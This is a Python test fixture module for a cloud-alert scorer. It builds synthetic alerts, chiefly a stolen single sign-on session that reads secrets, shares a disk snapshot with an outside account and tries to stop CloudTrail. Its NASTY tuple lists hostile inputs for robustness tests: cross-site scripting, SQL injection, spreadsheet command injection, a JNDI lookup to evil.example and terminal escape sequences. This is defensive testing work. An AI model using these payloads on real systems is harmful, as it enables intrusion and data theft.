"""Alerts as the scorer makes them, for tests: a stolen session at a single sign-on role, and a quieter one
by a CI role."""

from __future__ import annotations

import json
import math
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from hashlib import blake2b
from typing import Any

from fingerprint.core.address import UNKNOWN_PLACE, AddressPlace
from fingerprint.core.alert import (
    ActionImpact,
    ActivityCurve,
    Alert,
    AlertEvent,
    NextStep,
    SurpriseDriver,
    Vote,
)

START = datetime(2026, 3, 4, 12, tzinfo=UTC)
ACCOUNT = "123456789012"
PERSON = f"{ACCOUNT}:role/AWSReservedSSO_DataScience_0123456789abcdef/maria.lopez@example.com"

# minutes after 14:00, service, action, error, autoencoder z, spectral z, requestParameters
STOLEN = [
    (2, "sts", "GetCallerIdentity", "", 4.4, 5.1, None),
    (3, "iam", "ListUsers", "AccessDenied", 7.9, 6.3, None),
    (4, "iam", "ListAttachedRolePolicies", "", 8.2, 6.3, {"roleName": "DataScience"}),
    (6, "ec2", "DescribeSnapshotAttribute", "", 9.6, 8.8, {"snapshotId": "snap-0f3a", "attributeType": "x"}),
    (9, "secretsmanager", "ListSecrets", "", 10.1, 9.4, {"maxResults": 100}),
    (9, "secretsmanager", "GetSecretValue", "", 12.7, 11.0, {"secretId": "prod/warehouse/password"}),
    (10, "secretsmanager", "GetSecretValue", "", 12.7, 12.9, {"secretId": "prod/payments/stripe"}),
    (
        14,
        "ec2",
        "ModifySnapshotAttribute",
        "",
        15.3,
        9.0,
        {"snapshotId": "snap-0f3a", "userId": "210987654321"},
    ),
    (21, "cloudtrail", "StopLogging", "AccessDenied", 16.8, 7.2, {"name": "organisation"}),
]


def event(minute: int, service: str, action: str, **fields: Any) -> AlertEvent:
    """One event `minute` minutes after 14:00. Ids come from content, as everywhere."""
    parameters = fields.pop("parameters", None)
    when = START + timedelta(hours=2, minutes=minute)
    name = f"{service}-{action}-{minute}-{json.dumps(parameters)}".encode()
    made = AlertEvent(
        event_id=blake2b(name, digest_size=16).hexdigest(),
        event_time=when,
        entity=f"{PERSON}|{service}|direct",
        service=service,
        action=action,
        region="eu-west-1",
        source_address="185.220.101.34",
        user_agent="aws-cli/2.15.30 md/Botocore#2.15.30 ua/2.0 os/linux#6.8.0 lang/python#3.11.8",
        error_code="",
        session="maria.lopez@example.com",
        scores={"autoencoder": 9.0, "spectral": 8.0},
        raw="",
        flagged_by=("autoencoder", "spectral"),
        thresholds={"autoencoder": 4.0, "spectral": 4.0},
    )
    made = replace(made, **fields)
    return replace(made, raw=fields.get("raw") or json.dumps(record(made, parameters), separators=(",", ":")))


def record(of: AlertEvent, parameters: dict[str, Any] | None) -> dict[str, Any]:
    """The CloudTrail record behind an event."""
    role = "AWSReservedSSO_DataScience_0123456789abcdef"
    identity = {
        "type": "AssumedRole",
        "principalId": f"AROAEXAMPLE:{of.session}",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{of.session}",
        "accountId": ACCOUNT,
        "accessKeyId": "ASIAEXAMPLE",
    }
    made = {
        "eventVersion": "1.10",
        "userIdentity": identity,
        "eventTime": f"{of.event_time:%Y-%m-%dT%H:%M:%SZ}",
    }
    made |= {"eventSource": f"{of.service}.amazonaws.com", "eventName": of.action, "awsRegion": of.region}
    made |= {"sourceIPAddress": of.source_address, "userAgent": of.user_agent}
    made |= {"errorCode": of.error_code} if of.error_code else {}
    return made | {"requestParameters": parameters, "responseElements": None, "eventID": of.event_id}


def curve(days: int = 7, peak: float = 34.0) -> ActivityCurve:
    """A week of hours of someone who works from nine to five, and one hour that is not like the others."""
    start, hours = START - timedelta(days=days - 1, hours=12), days * 24
    busy = [
        3.4 * math.exp(-((((hour % 24) - 13) / 3.2) ** 2)) * ((hour // 24 + 3) % 7 < 5)
        for hour in range(hours)
    ]
    counts = [round(value + 0.9 * math.sin(hour * 1.7) * (value > 1)) for hour, value in enumerate(busy)]
    surge = (days - 1) * 24 + 14
    counts[surge] = peak
    return ActivityCurve(
        f"{PERSON}|secretsmanager|direct",
        "events",
        start,
        3600,
        tuple(map(float, counts)),
        tuple(busy),
        (surge,),
    )


DRIVERS = (
    SurpriseDriver(
        "network of the source", "185.220.101.0/24", "10.20.4.0/24 (81 %), 84.17.50.0/24", "unseen", 9.4, 9
    ),
    SurpriseDriver("action", "StopLogging", "GetObject (44 %), StartQueryExecution (21 %)", "unseen", 8.1, 1),
    SurpriseDriver("user agent", "aws-cli 2.15", "Boto3 1.34 (66 %), Chrome 122 (31 %)", "rare", 5.2, 9),
    SurpriseDriver(
        "parameter names", "attributeType, snapshotId, userId", "secretId (90 %)", "infrequent", 2.6, 1
    ),
    SurpriseDriver("hour of day", "14 to 16", "09 to 18 (97 %)", "frequent", 0.3, 9),
)


IMPACT_OF = (
    ActionImpact(
        "ec2:ModifySnapshotAttribute",
        "severe",
        "opens stored data to outsiders",
        "Exfiltration",
        "T1537",
        1,
        0,
        True,
        True,
        ("snapshot:snap-0f3a",),
    ),
    ActionImpact(
        "cloudtrail:StopLogging",
        "severe",
        "stops or weakens the audit log",
        "Defense Evasion",
        "T1562.008",
        1,
        1,
        True,
        True,
    ),
)


def stolen_session(**fields: Any) -> Alert:
    """A data scientist's single sign-on session, used from elsewhere: urgent."""
    events = tuple(
        event(
            minute,
            service,
            action,
            error_code=error,
            scores={"autoencoder": own, "spectral": volume},
            parameters=parameters,
        )
        for minute, service, action, error, own, volume, parameters in STOLEN
    )
    made = Alert(
        alert_id="3fa94c1be0d27a58",
        principal=PERSON,
        human="maria.lopez@example.com",
        window_start=START,
        first_event_time=events[0].event_time,
        last_event_time=events[-1].event_time,
        urgency=91,
        title="maria.lopez@example.com made 9 calls in 5 services from 185.220.101.34, a network "
        "never seen for her, and tried to stop CloudTrail",
        level="entity",
        bank_version="2026-03-01T02:00:00Z-8c1f",
        drivers=DRIVERS,
        curve=curve(),
        tactics=("Discovery", "Credential Access", "Exfiltration", "Defense Evasion"),
        next_steps=(
            NextStep(
                "contain", "Revoke the role's sessions.", "aws iam put-role-policy --role-name DataScience"
            ),
            NextStep(
                "verify",
                "Ask Maria Lopez by telephone whether she used aws-cli from 185.220.101.34 on 4 March.",
            ),
            NextStep(
                "undo",
                "ec2:ModifySnapshotAttribute on snapshot:snap-0f3a. Stop sharing the snapshot: account 210987654321 "
                "is not yours; and rotate both secrets read.",
                "aws ec2 reset-snapshot-attribute --snapshot-id snap-0f3a --attribute createVolumePermission\n"
                "aws secretsmanager rotate-secret --secret-id prod/db",
            ),
        ),
        rarity=84,
        impact=88,
        impact_of=IMPACT_OF,
        events=events,
        supporting_events=tuple(supporting_event(minute) for minute in (1, 5)),
    )
    return replace(made, **fields)


def supporting_event(minute: int) -> AlertEvent:
    """One event without a verdict, as an alert has it: without its record."""
    made = event(
        minute,
        "s3",
        "ListBuckets",
        scores={"autoencoder": 1.9, "spectral": None},
        flagged_by=("autoencoder",),
        thresholds={"autoencoder": 1.6, "spectral": 1.6},
    )
    return replace(made, raw="")


def new_pipeline(**fields: Any) -> Alert:
    """A CI role that does something new: less urgent, judged by its peers because its own history is
    thin."""
    role = f"{ACCOUNT}:role/ci-deploy"
    events = tuple(
        event(
            180 + minute,
            "ecs",
            "UpdateService",
            entity=f"{role}|ecs|direct",
            source_address="10.3.1.8",
            session="i-0ab",
            user_agent="Boto3/1.34.60",
            scores={"autoencoder": 4.2, "spectral": None},
            parameters={"service": f"web-{minute}"},
        )
        for minute in range(3)
    )
    made = replace(
        stolen_session(),
        alert_id="77b0e6d1920c4f3e",
        principal=role,
        human="i-0ab",
        events=events,
        urgency=38,
        rarity=38,
        impact=0,
        impact_of=(),
        level="peer",
        title="ci-deploy called ecs:UpdateService 3 times, which no role of its kind does",
        curve=None,
        tactics=(),
        supporting_events=(),
        first_event_time=events[0].event_time,
        last_event_time=events[-1].event_time,
        drivers=DRIVERS[1:2],
    )
    return replace(made, **fields)


def votes(alert: Alert, detector: str = "autoencoder") -> list[Vote]:
    """A vote on each event of an alert."""
    return [
        Vote(
            item.event_id,
            item.event_time,
            alert.principal,
            item.entity,
            detector,
            5.5,
            4.0,
            True,
            alert.level,
        )
        for item in alert.events
    ]


NASTY = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</details></style></title><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "[red]rich[/red] [link=https://evil.example]x[/link] [/]",
    "javascript:alert(1)",
    "abc\u202egnp.exe\u2066\u200b\ufeff",
    "\x1b[2J\x1b]0;owned\x07\x9b31m\rover\bwritten",
    "nul\x00byte",
    "lone \ud800 surrogate \udfff",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\nb\r\nc\td\u2028e\u2029f",
    "'; DROP TABLE alerts; --",
    "%s %n %x ${jndi:ldap://evil.example/a}",
    "\u05d0\u05d1\u05d2 right to left \U000e0041\U0001f600\u0301\u0301",
    "A" * 100_000,
    "",
)


def nasty(text: str) -> Alert:
    """An alert with `text` in every field that comes, or might one day come, from a record."""
    raw = json.dumps({"userAgent": text, text: {"x": [text]}}, ensure_ascii=False)
    fields = (
        "entity",
        "service",
        "action",
        "region",
        "source_address",
        "user_agent",
        "error_code",
        "session",
    )
    base = stolen_session()
    events = tuple(replace(item, raw=raw, **dict.fromkeys(fields, text)) for item in base.events[:2])
    return replace(
        base,
        alert_id="bad5ec0de0000000",
        principal=text,
        human=text,
        title=text,
        bank_version=text,
        tactics=(text,),
        next_steps=(NextStep("contain", text, f"aws {text}"), NextStep("undo", text)),
        impact_of=(ActionImpact(text, "severe", text, text, text, 2, 1, True, False, (text, text)),),
        drivers=(SurpriseDriver(text, text, text, "unseen", 3.0, 2),),
        events=(replace(events[0], event_id=text), *events),
        supporting_events=(replace(events[0], event_id=text, raw=""),),
        curve=replace(curve(), entity=text, channel=text),
    )


class KnownAddresses:
    """Tables that know every address of the stolen session."""

    def place(self, address: str) -> AddressPlace:
        known = AddressPlace("NL", "AS64500 Example Hosting", ("VPN exits of Example",))
        return known if address[:1].isdigit() else UNKNOWN_PLACE


KNOWN_ADDRESSES = KnownAddresses()
